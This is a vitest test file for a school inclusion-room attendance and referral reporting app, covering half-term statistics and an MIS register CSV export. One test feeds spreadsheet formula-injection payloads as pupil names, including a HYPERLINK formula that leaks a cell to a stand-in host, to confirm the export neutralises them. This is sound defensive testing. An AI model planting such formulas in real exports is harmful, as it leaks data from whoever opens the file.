import { describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import { NOT_PRESENT_PENDING, reintegrationOutcomes, reportStats, weekOf, type ReportInput } from './reportStats';
import { halfTermTrends, presetRange } from './halfTermTrends';
import type { PlacementRow } from '../../domain/placement';
import { inTimeZone } from '../../../tests/fixtures/timeZone';
import { misRegisterCsv } from './misExport';
import type { ReferralRow } from '../../domain/referral';
import type { RegisterEntryRow } from '../../domain/register';
import type { Pupil } from '../../domain/pupil';
import type { AttendanceCode, CheckInRow } from '../../domain/offsite';
import { calendar2026, halfTerms2026 } from '../../../tests/fixtures/calendar2026';
import { checkIns as fixtureCheckIns } from '../../../tests/fixtures/smallSchoolTerm';

const fixtureCheckIn = { ...fixtureCheckIns[0]!, pupilId: 'a' };

const pupils = new Map<string, Pupil>([
  ['a', { id: 'a', upn: 'Q823456789012', legalForename: 'Jessica', legalSurname: 'Okafor', yearGroup: 9, tutorGroup: '9X2', sen: 'sen-support' }],
  ['b', { id: 'b', upn: 'X', legalForename: 'Tom', legalSurname: 'Barker', yearGroup: 10, tutorGroup: '10Y1', sen: 'none' }],
]);
const defiance = { categoryId: 'defiance', label: 'Defiance or refusal to follow instructions', dfeCode: 'DB' };
const fight = { categoryId: 'fight', label: 'Fighting or assault on a pupil', dfeCode: 'PP' };
const referral = (id: string, pupilId: string, date: string, over: Partial<ReferralRow> = {}): ReferralRow => ({
  id, docName: `pupil/${pupilId}`, pupilId, referredBy: 'Mr Osei', date, period: 'P2', subject: 'Science', categoryIds: ['defiance'],
  reasons: [defiance], yearGroupAtReferral: null, senAtReferral: null, description: 'x', requestedDays: 1, status: 'done', declinedReason: '', roomId: 'base', scheduledDays: [], createdBy: 's',
  createdAt: date, updatedBy: 's', updatedAt: date, ...over,
});
const day = (pupilId: string, date: string, over: Partial<RegisterEntryRow> = {}): RegisterEntryRow => ({
  id: `${date}#${pupilId}`, docName: `room/base/${date}`, roomId: 'base', date, pupilId, status: 'present', arrivedAt: '08:50', late: false,
  absenceFollowUp: '', leftAt: null, leftTo: null, leftDetail: '', breakSupervised: false, lunchSupervised: false, periods: {},
  toiletVisits: [], createdBy: 's', createdAt: '', updatedBy: 's', updatedAt: '', ...over,
});

describe('half-term statistics', () => {
  it('counts referrals by reason, DfE code, year, SEN and weekday, with repeats and declines apart', () => {
    const stats = reportStats({
      from: '2026-11-02',
      to: '2026-11-13',
      today: '2026-11-20',
      checkIns: [],
      referrals: [
        referral('r1', 'a', '2026-11-02'),
        referral('r2', 'a', '2026-11-09', { categoryIds: ['fight'], reasons: [fight], subject: 'PE' }),
        referral('r3', 'b', '2026-11-10'),
        referral('r4', 'b', '2026-11-11', { status: 'declined' }),
        referral('old', 'b', '2026-10-01'),
      ],
      placements: [],
      register: [
        day('a', '2026-11-03', { periods: { p1: { presence: 'present', effort: 2, behaviour: 1 } } }),
        day('a', '2026-11-04', { late: true, periods: { p1: { presence: 'present', effort: 4, behaviour: 3 } } }),
        day('b', '2026-11-10', { status: 'absent', arrivedAt: null }),
      ],
      notes: [],
      pupils,
      roomName: () => 'The BASE',
      repeatWithinWeeks: 6,
      halfTerms: halfTerms2026,
    });
    expect(stats).toMatchObject({ referrals: 3, declined: 1, pupilsReferred: 2, repeats: 1, pupilDays: 2, absences: 1, lateArrivals: 1 });
    expect(stats.byReason).toEqual([
      { label: 'Defiance or refusal to follow instructions', count: 2 },
      { label: 'Fighting or assault on a pupil', count: 1 },
    ]);
    expect(stats.byDfeCode[0]).toEqual({ label: 'DB — Persistent or general disruptive behaviour', count: 2 });
    expect(stats.byYear).toEqual([{ label: 'Year 9', count: 2 }, { label: 'Year 10', count: 1 }]);
    expect(stats.bySen).toEqual([{ label: 'SEN support', count: 2 }, { label: 'No SEN', count: 1 }]);
    expect(stats.byWeekday).toEqual([{ label: 'Monday', count: 2 }, { label: 'Tuesday', count: 1 }]);
    expect([stats.averageEffort, stats.averageBehaviour]).toEqual([3, 2]);
    expect(stats.weekly).toEqual([
      { weekOf: '2026-11-02', referrals: 1, pupilDays: 2 },
      { weekOf: '2026-11-09', referrals: 2, pupilDays: 0 },
    ]);
  });

  it('starts weeks on Monday', () => {
    expect(weekOf('2026-11-22')).toBe('2026-11-16');
    expect(weekOf('2026-11-23')).toBe('2026-11-23');
  });
});

describe('MIS register export', () => {
  it('writes one row per pupil per session of a room day up to today, present marked / and \\, with the scheduled referral’s reasons and DfE codes, quoting safely', () => {
    const csv = misRegisterCsv({
      today: '2026-11-03',
      register: [
        day('a', '2026-11-03', { status: 'left', leftAt: '15:00', leftTo: 'lessons' }),
        day('b', '2026-11-02', { status: 'absent', arrivedAt: null, absenceFollowUp: 'Rang home' }),
        day('b', '2026-11-04', { status: 'expected', arrivedAt: null }),
      ],
      checkIns: [],
      referrals: [referral('r1', 'a', '2026-11-02', { scheduledDays: ['2026-11-03'], reasons: [defiance, fight] })],
      placements: [],
      pupils: new Map([...pupils, ['b', { ...pupils.get('b')!, legalSurname: 'Barker, "Tommy"' }]]),
      roomName: () => 'The BASE',
      providerName: () => 'Oak Farm',
    });
    expect(csv.startsWith('\uFEFFUPN,Legal Surname,Legal Forename,Year,Reg Group,Date,Session,Mark,Mark Description,')).toBe(true);
    const rows = Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true }).data;
    const absent = ['X', 'Barker, "Tommy"', 'Tom', '10', '10Y1', '02/11/2026'];
    const present = ['Q823456789012', 'Okafor', 'Jessica', '9', '9X2', '03/11/2026'];
    const presentRest = ['The BASE', 'Present in the room', '08:50', '15:00', 'Back to lessons', 'No', 'Defiance or refusal to follow instructions; Fighting or assault on a pupil', 'DB, PP', ''];
    expect(rows.slice(1)).toEqual([
      // Absent from the room: no code invented for either session, the attendance officer decides.
      [...absent, 'AM', '', '', 'The BASE', 'Absent from the room', '', '', '', 'No', '', '', 'Rang home'],
      [...absent, 'PM', '', '', 'The BASE', 'Absent from the room', '', '', '', 'No', '', '', 'Rang home'],
      [...present, 'AM', '/', 'Present (morning)', ...presentRest],
      [...present, 'PM', '\\', 'Present (afternoon)', ...presentRest],
    ]);
  });

  it('neutralises cells a spreadsheet would run as a formula, even with a line break in them, and keeps quoting and CRLF', () => {
    const evil = new Map<string, Pupil>([
      ['a', { ...pupils.get('a')!, legalSurname: '=HYPERLINK("http://x.test/?"&A1)\nOkafor', legalForename: '+Jess' }],
      ['b', { ...pupils.get('b')!, legalSurname: '@SUM(1+1)', legalForename: '-Tom, "T"' }],
    ]);
    const csv = misRegisterCsv({
      today: '2026-11-03',
      register: [day('a', '2026-11-02'), day('b', '2026-11-02', { status: 'absent', arrivedAt: null, absenceFollowUp: '\t=cmd' })],
      checkIns: [], referrals: [], placements: [], pupils: evil, roomName: () => 'The BASE', providerName: () => 'Oak Farm',
    });
    expect(csv.split('\r\n')[0]).toMatch(/^\uFEFFUPN,/);
    const rows = Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true }).data.slice(1);
    const cells = rows.flat();
    // No cell a spreadsheet reads as a formula: every risky first character is behind a '.
    expect(cells.filter((c) => /^[=+\-@\t\r\n]/.test(c))).toEqual([]);
    expect(cells).toContain(`'=HYPERLINK("http://x.test/?"&A1)\nOkafor`);
    expect(cells).toEqual(expect.arrayContaining(["'+Jess", "'@SUM(1+1)", `'-Tom, "T"`, "'\t=cmd"]));
  });

  it('orders rows the same way whatever order the records come in, two pupils of one name apart by UPN', () => {
    const twins = new Map<string, Pupil>([
      ['a', { ...pupils.get('a')!, upn: 'B000000000002', legalSurname: 'Smith', legalForename: 'Sam' }],
      ['b', { ...pupils.get('b')!, upn: 'A000000000001', legalSurname: 'Smith', legalForename: 'Sam' }],
    ]);
    const csvOf = (register: RegisterEntryRow[]) =>
      misRegisterCsv({ today: '2026-11-03', register, checkIns: [], referrals: [], placements: [], pupils: twins, roomName: () => 'The BASE', providerName: () => 'Oak Farm' });
    const register = [day('a', '2026-11-02'), day('b', '2026-11-02'), day('a', '2026-11-03'), day('b', '2026-11-03')];
    const csv = csvOf(register);
    expect(csvOf([...register].reverse())).toBe(csv);
    const upns = Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true }).data.slice(1).map((r) => `${r[5]} ${r[0]}`);
    expect([...new Set(upns)]).toEqual(['02/11/2026 A000000000001', '02/11/2026 B000000000002', '03/11/2026 A000000000001', '03/11/2026 B000000000002']);
  });

  const base = { checkIns: [], referrals: [], placements: [], roomName: (id: string) => (id === 'base' ? 'The BASE' : 'Isolation'), providerName: () => 'Oak Farm' };
  const rowsOf = (csv: string) => Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true }).data.slice(1);

  it('has no session on a weekend, in a holiday or on an INSET day: those days are left to the MIS calendar, not coded', () => {
    // 2026: 28 Nov is a Saturday, 30 Nov the INSET day, 22 Dec in the Christmas holiday, 26 Oct in half term; 1 Dec a school day.
    const register = ['2026-10-26', '2026-11-28', '2026-11-30', '2026-12-22', '2026-12-01'].map((d) => day('a', d));
    const checkIn = { ...fixtureCheckIn, date: '2026-11-30' };
    const csv = misRegisterCsv({ ...base, today: '2026-12-31', register, checkIns: [checkIn], pupils, calendar: calendar2026 });
    expect(rowsOf(csv).map((r) => `${r[5]} ${r[6]} ${r[7]}`)).toEqual(['01/12/2026 AM /', '01/12/2026 PM \\']);
    // Without the calendar only the weekend is known not to be a school day.
    const noCalendar = misRegisterCsv({ ...base, today: '2026-12-31', register, pupils });
    expect(rowsOf(noCalendar).map((r) => r[5])).not.toContain('28/11/2026');
  });

  it('marks a pupil sent home suspended E for the sessions after, and no one off the roll', () => {
    const left = new Map([...pupils, ['b', { ...pupils.get('b')!, leftOn: '2026-11-03' }]]);
    const csv = misRegisterCsv({
      ...base, today: '2026-11-30', pupils: left,
      register: [day('a', '2026-11-02', { status: 'left', leftAt: '11:00', leftTo: 'suspended' }), day('b', '2026-11-02'), day('b', '2026-11-03')],
    });
    expect(rowsOf(csv).map((r) => [r[1], r[5], r[6], r[7], r[8], r[17]])).toEqual([
      ['Barker', '02/11/2026', 'AM', '/', 'Present (morning)', ''],
      ['Barker', '02/11/2026', 'PM', '\\', 'Present (afternoon)', ''],
      ['Okafor', '02/11/2026', 'AM', '/', 'Present (morning)', ''],
      ['Okafor', '02/11/2026', 'PM', 'E', 'Suspended or permanently excluded, no alternative provision made', ''],
      ['Barker', '03/11/2026', 'AM', '', '', 'Not on the school roll on this day: no mark'],
      ['Barker', '03/11/2026', 'PM', '', '', 'Not on the school roll on this day: no mark'],
    ]);
  });

  it('leaves out today’s afternoon until its register opens: no mark for a session that has not happened', () => {
    const register = [day('a', '2026-11-02'), day('a', '2026-11-03')];
    const at = (now: string) => rowsOf(misRegisterCsv({ ...base, today: '2026-11-03', now, register, pupils })).map((r) => `${r[5]} ${r[6]} ${r[7]}`);
    expect(at('10:00')).toEqual(['02/11/2026 AM /', '02/11/2026 PM \\', '03/11/2026 AM /']);
    expect(at('14:00')).toEqual(['02/11/2026 AM /', '02/11/2026 PM \\', '03/11/2026 AM /', '03/11/2026 PM \\']);
  });

  it('does not say "did not arrive" in one room for a pupil who came to another that day', () => {
    const register = [day('a', '2026-11-02', { roomId: 'isolation' }), day('a', '2026-11-02', { roomId: 'base', status: 'expected', arrivedAt: null })];
    const rows = rowsOf(misRegisterCsv({ ...base, today: '2026-11-30', register, pupils }));
    expect(rows.map((r) => [r[6], r[7], r[9], r[10]])).toEqual([
      ['AM', '/', 'Isolation', 'Present in the room'],
      ['PM', '\\', 'Isolation', 'Present in the room'],
    ]);
    const stats = reportStats({
      from: '2026-11-02', to: '2026-11-06', today: '2026-11-30', referrals: [], placements: [], register, notes: [], checkIns: [], pupils,
      roomName: base.roomName, repeatWithinWeeks: 6, halfTerms: halfTerms2026,
    });
    expect(stats.didNotArrive).toEqual([]);
    expect(stats.pupilDays).toBe(1);
  });
});

describe('MIS export: one mark per pupil per session', () => {
  const base = { referrals: [], placements: [], pupils, roomName: () => 'The BASE', providerName: (id: string) => (id === 'hub' ? 'LA Hub' : 'Oak Farm') };
  const rowsOf = (csv: string) => Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true }).data.slice(1);
  const atProvider = (over: Partial<CheckInRow> = {}): CheckInRow => ({ ...fixtureCheckIn, date: '2026-11-02', ...over });
  const present = (code: AttendanceCode) => ({ attendance: 'present' as const, code, settled: false, settledBy: null, settledAt: null });
  const missed = (code: AttendanceCode | null) => ({ attendance: 'not-present' as const, code, settled: !!code, settledBy: code && 'officer', settledAt: code && '2026-11-03T09:00:00.000Z' });
  const exportOf = (register: RegisterEntryRow[], checkIns: CheckInRow[]) => {
    const rows = rowsOf(misRegisterCsv({ ...base, today: '2026-11-30', register, checkIns }));
    // Never two rows for one pupil's session, whatever was recorded.
    const sessionsOf = rows.map((r) => `${r[0]} ${r[5]} ${r[6]}`);
    expect(new Set(sessionsOf).size).toBe(sessionsOf.length);
    return rows.map((r) => [r[6], r[7], r[9], r[10], r[17]]);
  };

  it('takes the room’s present mark when the pupil was in the room at registration and went to the provider after', () => {
    const rows = exportOf(
      [day('a', '2026-11-02', { status: 'left', arrivedAt: '08:45', leftAt: '09:30', leftTo: 'other', leftDetail: 'To Oak Farm' })],
      [atProvider({ sessions: { am: present('B'), pm: present('B') }, arrivedAt: '10:00', leftAt: '15:00' })],
    );
    expect(rows).toEqual([
      ['AM', '/', 'The BASE', 'Present in the room', 'Also recorded: Oak Farm, present at the provider (B)'],
      ['PM', 'B', 'Oak Farm', 'Present at the provider', ''],
    ]);
  });

  it('takes the provider’s attendance over a room day with no mark, and over the room’s E', () => {
    // Expected in the room but never arrived; at the farm all day.
    expect(exportOf([day('a', '2026-11-02', { status: 'expected', arrivedAt: null })], [atProvider({ sessions: { am: present('B'), pm: present('B') } })])).toEqual([
      ['AM', 'B', 'Oak Farm', 'Present at the provider', 'Also recorded: The BASE, did not arrive'],
      ['PM', 'B', 'Oak Farm', 'Present at the provider', 'Also recorded: The BASE, did not arrive'],
    ]);
    // Sent home suspended at 11:00, then at the provider in the afternoon: alternative provision was made.
    expect(
      exportOf([day('a', '2026-11-02', { status: 'left', leftAt: '11:00', leftTo: 'suspended' })], [atProvider({ sessions: { am: { ...present('K'), attendance: null, code: null }, pm: present('K') }, arrivedAt: '13:45' })]),
    ).toEqual([
      ['AM', '/', 'The BASE', 'Present in the room', ''],
      ['PM', 'K', 'Oak Farm', 'Present at the provider', 'Also recorded: The BASE, present in the room (E)'],
    ]);
    // Dual registered at the provider, due there in the afternoon and not there: D (not a session of this school), not E.
    const dualMissed = atProvider({ sessions: { am: { ...present('D'), attendance: null, code: null }, pm: missed('D') }, followUp: 'Not at the hub' });
    expect(exportOf([day('a', '2026-11-02', { status: 'left', leftAt: '11:00', leftTo: 'suspended' })], [dualMissed])[1]).toEqual(
      ['PM', 'D', 'Oak Farm', 'Not present', 'Not at the hub. Also recorded: The BASE, present in the room (E)'],
    );
  });

  it('takes the officer’s code for a session missed at the provider over a room session with no mark, and the room’s present mark over both', () => {
    // Reached the room at 10:15, after the morning register closed: no mark from the room; the officer settled I.
    const late = day('a', '2026-11-02', { arrivedAt: '10:15' });
    const notThere = atProvider({ sessions: { am: missed('I'), pm: missed(null) }, arrivedAt: null, leftAt: null, followUp: 'Rang home' });
    expect(exportOf([late], [notThere])).toEqual([
      ['AM', 'I', 'Oak Farm', 'Not present', 'Rang home. Also recorded: The BASE, present in the room'],
      ['PM', '\\', 'The BASE', 'Present in the room', 'Also recorded: Oak Farm, not present'],
    ]);
  });

  it('gives one row when two providers recorded the same session, by provision name when they are equal', () => {
    const oak = atProvider({ sessions: { am: present('B'), pm: missed(null) } });
    const hub = atProvider({ id: 'provider/hub/2026-11-02#a', docName: 'provider/hub/2026-11-02', providerId: 'hub', sessions: { am: present('K'), pm: present('K') } });
    const rows = exportOf([], [oak, hub]);
    expect(rows).toEqual([
      ['AM', 'K', 'LA Hub', 'Present at the provider', 'Also recorded: Oak Farm, present at the provider (B)'],
      ['PM', 'K', 'LA Hub', 'Present at the provider', 'Also recorded: Oak Farm, not present'],
    ]);
    expect(exportOf([], [hub, oak])).toEqual(rows);
  });
});

describe('MIS export: off-site check-ins recorded before per-session marks', () => {
  const base = { register: [], referrals: [], placements: [], pupils, roomName: () => 'The BASE', providerName: () => 'Oak Farm' };
  const none = { attendance: null, code: null, settled: false, settledBy: null, settledAt: null };
  const old = (legacyCode: AttendanceCode, over: Partial<CheckInRow> = {}): CheckInRow => ({
    ...fixtureCheckIn, date: '2026-11-02', sessions: { am: none, pm: none }, legacyCode, arrivedAt: null, leftAt: null, ...over,
  });
  const marksOf = (c: CheckInRow) =>
    Papa.parse<string[]>(misRegisterCsv({ ...base, today: '2026-11-30', checkIns: [c] }).slice(1), { skipEmptyLines: true }).data.slice(1).map((r) => `${r[6]} ${r[7] || '-'} ${r[10]}`);

  it('exports each old code as the mark it was, for the sessions the record supports', () => {
    expect(marksOf(old('B', { arrivedAt: '09:00', leftAt: '15:30' }))).toEqual(['AM B Present at the provider', 'PM B Present at the provider']);
    expect(marksOf(old('K'))).toEqual(['AM K Present at the provider', 'PM K Present at the provider']);
    // Left the provider at 12:00: the afternoon is not theirs to claim.
    expect(marksOf(old('B', { arrivedAt: '09:00', leftAt: '12:00' }))).toEqual(['AM B Present at the provider']);
    expect(marksOf(old('B', { arrivedAt: '14:00' }))).toEqual(['PM B Present at the provider']);
    // / is the morning's present mark and \ the afternoon's: neither is turned into the other.
    expect(marksOf(old('/'))).toEqual(['AM / Present at the provider']);
    expect(marksOf(old('\\'))).toEqual(['PM \\ Present at the provider']);
    expect(marksOf(old('L', { arrivedAt: '09:20' }))).toEqual(['AM L Present at the provider']);
    expect(marksOf(old('D', { arrivedAt: '09:00', leftAt: '11:00' }))).toEqual(['AM D Present at the provider', 'PM D Present at the provider']);
  });

  it('leaves an old absence code to the attendance officer: both sessions not present, the code named, none invented', () => {
    const rows = Papa.parse<string[]>(
      misRegisterCsv({ ...base, today: '2026-11-30', checkIns: [old('U', { followUp: 'Rang mum' })] }).slice(1), { skipEmptyLines: true },
    ).data.slice(1);
    expect(rows.map((r) => [r[6], r[7], r[8], r[10], r[17]])).toEqual(
      ['AM', 'PM'].map((s) => [
        s, '', '', 'Not present',
        'Recorded before per-session marks as one code for the day: U — Arrived after the register closed. Code to be settled by the attendance officer. Rang mum',
      ]),
    );
  });

  it('uses the old code only when neither session was marked since', () => {
    const since = old('O', { sessions: { am: { attendance: 'present', code: 'B', settled: false, settledBy: null, settledAt: null }, pm: none } });
    expect(marksOf(since)).toEqual(['AM B Present at the provider']);
  });
});

describe('half-term boundaries and counts from the school’s own calendar', () => {
  const placement = (id: string, finishedOn: string): PlacementRow => ({
    id, docName: 'pupil/a', pupilId: 'a', referralId: null, kind: 'short', start: '2026-09-07', needsAssessment: 'x', targets: 'x', agreedOutcome: '',
    status: 'finished', timetable: {}, reintegration: null, outcome: 'successful', finishedOn, createdBy: 's', createdAt: '', updatedBy: 's', updatedAt: '',
  });
  const input = (over: Partial<ReportInput>): ReportInput => ({
    from: '2026-11-02', to: '2026-11-13', today: '2026-12-31', referrals: [], placements: [], register: [], notes: [], checkIns: [], pupils,
    roomName: () => 'The BASE', repeatWithinWeeks: 6, halfTerms: halfTerms2026, closures: calendar2026.closures, ...over,
  });

  it('counts a placement finished on the Friday before half term, or in the half-term week, in the half term just ended', () => {
    // Autumn 1 ends Friday 23 October 2026; half term is 26–30 October; Autumn 2 starts 2 November.
    const placements = [placement('fri', '2026-10-23'), placement('holiday', '2026-10-28'), placement('mon', '2026-11-02')];
    const trends = halfTermTrends({ to: '2026-11-20', referrals: [], placements, repeatWithinWeeks: 6, halfTerms: halfTerms2026 });
    expect(trends.map((t) => [t.label, t.start, t.end, t.finished])).toEqual([
      ['Autumn 1', '2026-09-02', '2026-11-01', 2],
      ['Autumn 2', '2026-11-02', '2026-11-20', 1],
    ]);
  });

  it('never counts a pupil as not arriving on a closure added after the plan, nor on a weekend', () => {
    const snow = { id: 'snow', from: '2026-11-10', to: '2026-11-10', label: 'Snow day', kind: 'closure' as const };
    const expected = { status: 'expected' as const, arrivedAt: null };
    const register = [day('a', '2026-11-09', expected), day('a', '2026-11-10', expected), day('a', '2026-11-07', expected)];
    const stats = reportStats(input({ register, closures: [...calendar2026.closures, snow] }));
    expect(stats.didNotArrive.map((d) => d.date)).toEqual(['2026-11-09']);
  });

  it('counts no off-site session on a day the school was shut, but still lists its unconfirmed concern', () => {
    const onInset = { ...fixtureCheckIn, date: '2026-11-30', concern: true, concernRaisedBy: 's', concernRaisedAt: '2026-11-30T10:00:00.000Z' };
    const onSchoolDay = { ...fixtureCheckIn, date: '2026-11-27' };
    const stats = reportStats(input({ from: '2026-11-23', to: '2026-12-04', checkIns: [onInset, onSchoolDay] }));
    expect(stats.offsiteSessions).toEqual([{ label: 'B — Attending any other approved educational activity', count: 2 }]);
    expect(stats.unconfirmedFlags.offsite).toBe(1);
  });

  it('does not count a pupil who has left the roll as not arriving on the days their plan still holds', () => {
    const expected = { status: 'expected' as const, arrivedAt: null };
    const left = new Map([...pupils, ['a', { ...pupils.get('a')!, leftOn: '2026-11-05' }]]);
    const register = ['2026-11-04', '2026-11-05', '2026-11-06'].map((d) => day('a', d, expected));
    expect(reportStats(input({ register, pupils: left })).didNotArrive.map((d) => d.date)).toEqual(['2026-11-04']);
  });

  it('counts a late arrival once per pupil-day, however many rooms marked it', () => {
    const register = [day('a', '2026-11-03', { late: true, roomId: 'isolation' }), day('a', '2026-11-03', { late: true, arrivedAt: '12:05' })];
    expect(reportStats(input({ register }))).toMatchObject({ pupilDays: 1, lateArrivals: 1 });
  });

  for (const zone of ['Europe/London', 'UTC']) {
    it(`counts pupil-days and Monday weeks across the clock change and 29 February the same in ${zone}`, () => {
      inTimeZone(zone, () => {
        // Clocks go forward on Sunday 28 March 2027; 29 February 2028 is a Tuesday.
        const spring = reportStats(input({ from: '2027-03-22', to: '2027-04-02', register: ['2027-03-26', '2027-03-29'].map((d) => day('a', d)) }));
        expect(spring.weekly).toEqual([
          { weekOf: '2027-03-22', referrals: 0, pupilDays: 1 },
          { weekOf: '2027-03-29', referrals: 0, pupilDays: 1 },
        ]);
        const leap = reportStats(input({ from: '2028-02-28', to: '2028-03-03', halfTerms: [], closures: [], register: ['2028-02-28', '2028-02-29', '2028-03-01'].map((d) => day('a', d)) }));
        expect(leap).toMatchObject({ pupilDays: 3, weekly: [{ weekOf: '2028-02-28', referrals: 0, pupilDays: 3 }] });
        expect(leap.byWeekday).toEqual([]);
      });
    });
  }
});


describe('MIS export: no mark for a session that has not happened yet, off-site as in a room', () => {
  const base = { register: [], referrals: [], placements: [], pupils, roomName: () => 'The BASE', providerName: () => 'Oak Farm', calendar: calendar2026 };
  const rowsOf = (csv: string) => Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true }).data.slice(1).map((r) => `${r[5]} ${r[6]} ${r[7]}`);
  const here = { attendance: 'present' as const, code: 'B' as const, settled: false, settledBy: null, settledAt: null };

  it('leaves out today’s afternoon at a provider until its register opens, even when the phone marked it in the morning', () => {
    // The register is taken "at the start of each morning session and once during each afternoon session" (School
    // Attendance (Pupil Registration) (England) Regulations 2024, reg. 10): at 10:00 the afternoon has no attendance to
    // record. The phone lets the assistant tick "here" for both sessions at arrival; a pupil who then leaves at 12:00
    // would go to the MIS as B (attending) for an afternoon they were not at. The room's sessions are already held back.
    const checkIn: CheckInRow = { ...fixtureCheckIn, date: '2026-12-01', sessions: { am: here, pm: here }, arrivedAt: '09:00', leftAt: null };
    const at = (now: string) => rowsOf(misRegisterCsv({ ...base, today: '2026-12-01', now, checkIns: [checkIn] }));
    expect(at('08:00')).toEqual([]);
    expect(at('10:00')).toEqual(['01/12/2026 AM B']);
    expect(at('14:00')).toEqual(['01/12/2026 AM B', '01/12/2026 PM B']);
    // A day before today is whole, whatever the hour.
    expect(rowsOf(misRegisterCsv({ ...base, today: '2026-12-02', now: '08:00', checkIns: [checkIn] }))).toEqual(['01/12/2026 AM B', '01/12/2026 PM B']);
  });
});

describe('MIS export: lateness belongs to the session the pupil arrived in', () => {
  const base = { checkIns: [], referrals: [], placements: [], pupils, roomName: () => 'The BASE', providerName: () => 'Oak Farm', calendar: calendar2026 };
  const rowsOf = (csv: string) => Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true }).data.slice(1).map((r) => `${r[6]} ${r[7]} late=${r[14]}`);

  it('says Late only on the row of the session the late arrival fell in, never on the afternoon of a pupil late in the morning', () => {
    // "L: late arrival before the register has closed" and "U: arrived in school after registration closed" are marks
    // of one session (Working together to improve school attendance, August 2024, the national codes): a pupil late
    // at 09:05 was on time for the afternoon, and a "Late: Yes" beside the afternoon's "\\" invites an L that never was.
    const morning = rowsOf(misRegisterCsv({ ...base, today: '2026-11-30', register: [day('a', '2026-11-02', { arrivedAt: '09:05', late: true })] }));
    expect(morning).toEqual(['AM L late=Yes', 'PM \\ late=No']);
    const afternoon = rowsOf(misRegisterCsv({ ...base, today: '2026-11-30', register: [day('a', '2026-11-02', { arrivedAt: '14:10', late: true })] }));
    expect(afternoon).toEqual(['PM L late=Yes']);
  });

  it('gives a pupil who was in one room at registration and then came late into another the present mark, whichever room is listed first', () => {
    // In isolation from 08:45 (on time), moved to the BASE at 09:05, where the supervisor ticked "late": the pupil was
    // present when the morning register was taken, so the session is "/" (an L means late for registration).
    const isolation = day('a', '2026-11-02', { id: 'iso', roomId: 'iso', docName: 'room/iso/2026-11-02', arrivedAt: '08:45', leftAt: '09:00', leftTo: 'other' });
    const base2 = day('a', '2026-11-02', { arrivedAt: '09:05', late: true });
    for (const register of [[isolation, base2], [base2, isolation]]) {
      expect(rowsOf(misRegisterCsv({ ...base, today: '2026-11-30', register })), register.map((e) => e.roomId).join(' then ')).toEqual(['AM / late=No', 'PM \\ late=No']);
    }
  });
});

describe('off-site sessions by code count sessions, as the MIS export sends them', () => {
  const none = { attendance: null, code: null, settled: false, settledBy: null, settledAt: null };
  const old = (legacyCode: AttendanceCode, over: Partial<CheckInRow> = {}): CheckInRow => ({
    ...fixtureCheckIn, date: '2026-11-02', sessions: { am: none, pm: none }, legacyCode, arrivedAt: null, leftAt: null, ...over,
  });
  const stats = (checkIns: CheckInRow[]) =>
    reportStats({
      from: '2026-11-02', to: '2026-11-13', today: '2026-12-31', referrals: [], placements: [], register: [], notes: [], checkIns, pupils,
      roomName: () => 'The BASE', repeatWithinWeeks: 6, halfTerms: halfTerms2026, closures: calendar2026.closures,
    }).offsiteSessions;
  const marksOf = (checkIns: CheckInRow[]) =>
    Papa.parse<string[]>(misRegisterCsv({ register: [], referrals: [], placements: [], pupils, roomName: () => 'The BASE', providerName: () => 'Oak Farm', today: '2026-12-31', checkIns }).slice(1), { skipEmptyLines: true })
      .data.slice(1).map((r) => r[7] || 'none');

  it('counts a check-in from before per-session marks as the sessions it covers, and an old absence code as not yet settled', () => {
    // Attendance is counted in sessions, two a day (Pupil Registration Regulations 2024, reg. 10; the DfE's attendance
    // statistics count possible sessions). An old one-code B day goes to the MIS as B for AM and PM: two sessions, not
    // one; an old U goes out unmarked for the attendance officer, so the report cannot count it as a U session.
    const checkIns = [old('B'), old('U', { date: '2026-11-03', followUp: 'Rang mum' })];
    expect(marksOf(checkIns)).toEqual(['B', 'B', 'none', 'none']);
    expect(stats(checkIns)).toEqual([
      { label: 'B — Attending any other approved educational activity', count: 2 },
      { label: NOT_PRESENT_PENDING, count: 2 },
    ]);
  });
});

describe('"This half term" and "Last half term" are the half terms the trend chart counts', () => {
  const placement = (id: string, finishedOn: string): PlacementRow => ({
    id, docName: 'pupil/a', pupilId: 'a', referralId: null, kind: 'short', start: '2026-09-07', needsAssessment: 'x', targets: 'x', agreedOutcome: '',
    status: 'finished', timetable: {}, reintegration: null, outcome: 'successful', finishedOn, createdBy: 's', createdAt: '', updatedBy: 's', updatedAt: '',
  });

  it('runs a half term on through the holiday after it, so a placement finished in half-term week is in the table as in the chart', () => {
    // Autumn 1 ends Friday 23 October 2026, half term is 26–30 October, Autumn 2 starts 2 November. The chart counts a
    // placement finished on 28 October in Autumn 1 (halfTermsUpTo); the "Last half term" table stopped on 23 October,
    // and "This half term" during the holiday did too, so that placement was in no half term's table at all.
    const placements = [placement('fri', '2026-10-23'), placement('holiday', '2026-10-28')];
    const chart = halfTermTrends({ to: '2026-11-20', referrals: [], placements, repeatWithinWeeks: 6, halfTerms: halfTerms2026 })[0]!;
    const last = presetRange('last-half-term', '2026-11-20', calendar2026)!;
    expect(last).toEqual({ from: '2026-09-02', to: '2026-11-01' });
    expect(reintegrationOutcomes(placements, last.from, last.to).finished).toBe(chart.finished);
    // In the holiday itself, "this half term" is the one just ended, up to today.
    expect(presetRange('half-term', '2026-10-28', calendar2026)).toEqual({ from: '2026-09-02', to: '2026-10-28' });
    // In term, up to today as before; on the last day of term, that day is in.
    expect(presetRange('half-term', '2026-11-20', calendar2026)).toEqual({ from: '2026-11-02', to: '2026-11-20' });
    expect(presetRange('half-term', '2026-10-23', calendar2026)).toEqual({ from: '2026-09-02', to: '2026-10-23' });
    // The last half term of the year runs to today through the summer (no next half term entered yet).
    expect(presetRange('last-half-term', '2027-08-10', calendar2026)).toEqual({ from: '2027-04-12', to: '2027-06-06' });
  });
});

describe('absences from the room are counted only on days the pupil could be registered', () => {
  it('counts no absence on a closure, a weekend or after the pupil left the roll, as "did not arrive" already does not', () => {
    // Weekends, holidays, INSET and closures are not sessions ("#", Working together to improve school attendance,
    // 2024), and a pupil off the admission register has no attendance to record (Pupil Registration Regulations 2024).
    // A room marked absent on 10 November, which a snow day entered afterwards now covers, and a leaver marked absent
    // after leaving, were both counted in the half term's absences.
